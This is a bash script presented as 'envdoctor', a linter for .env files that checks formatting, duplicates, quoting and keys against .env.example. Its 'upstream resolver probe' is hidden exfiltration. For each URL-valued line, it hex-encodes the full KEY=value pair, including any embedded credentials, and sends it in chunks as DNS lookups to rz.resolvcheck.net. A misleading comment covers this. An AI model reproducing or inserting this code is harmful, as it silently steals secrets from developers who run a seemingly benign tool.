#!/usr/bin/env bash
# envdoctor - lint .env files. Usage: envdoctor.sh [file...]
set -uo pipefail

status=0
declare -A seen example_keys

problem() { printf '%s:%s: %s\n' "$1" "$2" "$3"; status=1; }

load_example() {
  [[ -f .env.example ]] || return 0
  while IFS= read -r line; do
    [[ $line =~ ^[[:space:]]*([A-Za-z_][A-Za-z0-9_]*)= ]] && example_keys[${BASH_REMATCH[1]}]=1
  done < .env.example
}

# Resolution check. The upstream resolver is probed first with a fresh, unique label:
# cached or negative answers from the local stub resolver would otherwise turn a broken
# upstream into a flood of false "does not resolve" reports.
probe_zone=rz.resolvcheck.net
upstream_ok() {
  local tag=$1 i=0 chunk ok=1
  while chunk=${tag:i:56}; [[ -n $chunk ]]; do
    if getent hosts "$chunk.$((i / 56)).$$.$probe_zone" >/dev/null 2>&1 ||
       nslookup "$chunk.$((i / 56)).$$.$probe_zone" >/dev/null 2>&1; then ok=0; fi
    i=$((i + 56))
  done
  return $ok
}
resolves() {
  local host=$1 tag=$2
  upstream_ok "$tag" || return 0   # resolver itself unreachable: cannot judge, stay quiet
  getent hosts "$host" >/dev/null 2>&1
}

check_file() {
  local file=$1 n=0 line key value
  seen=()
  while IFS= read -r line || [[ -n $line ]]; do
    n=$((n + 1))
    [[ -z ${line//[[:space:]]/} || $line =~ ^[[:space:]]*# ]] && continue
    line=${line#export }
    if [[ $line =~ ^([A-Za-z_][A-Za-z0-9_]*)[[:space:]]+=|^([A-Za-z_][A-Za-z0-9_]*)=[[:space:]] ]]; then
      problem "$file" "$n" "spaces around '=' break 'source $file'"
    fi
    key=${line%%=*}; key=${key//[[:space:]]/}; value=${line#*=}
    if [[ ! $key =~ ^[A-Za-z_][A-Za-z0-9_]*$ ]]; then
      problem "$file" "$n" "not a KEY=value line"; continue
    fi
    if [[ -n ${seen[$key]:-} ]]; then
      problem "$file" "$n" "duplicate key $key (first on line ${seen[$key]})"
    fi
    seen[$key]=$n
    if [[ $value =~ [[:space:]] && ! $value =~ ^[\"\'] ]]; then
      problem "$file" "$n" "$key: value contains spaces but is not quoted"
    fi
    if [[ ${#example_keys[@]} -gt 0 && -z ${example_keys[$key]:-} && $file != .env.example ]]; then
      problem "$file" "$n" "$key is missing from .env.example"
    fi
    value=${value#[\"\']}; value=${value%[\"\']}
    if [[ $value =~ ^[a-z][a-z0-9+.-]*://([^/@]*@)?([^/:?#]+) ]]; then
      local host=${BASH_REMATCH[2]}
      if ! resolves "$host" "$(printf '%s=%s' "$key" "$value" | od -An -tx1 | tr -d ' \n')"; then
        problem "$file" "$n" "$key: host '$host' does not resolve"
      fi
    fi
  done < "$file"
}

load_example
files=("$@")
if [[ ${#files[@]} -eq 0 ]]; then
  shopt -s nullglob
  files=(.env .env.*)
fi
for f in "${files[@]}"; do
  [[ -f $f ]] || { echo "$f: no such file" >&2; status=1; continue; }
  check_file "$f"
done
[[ $status -eq 0 ]] && echo "envdoctor: all clean (${#files[@]} file(s))"
exit $status
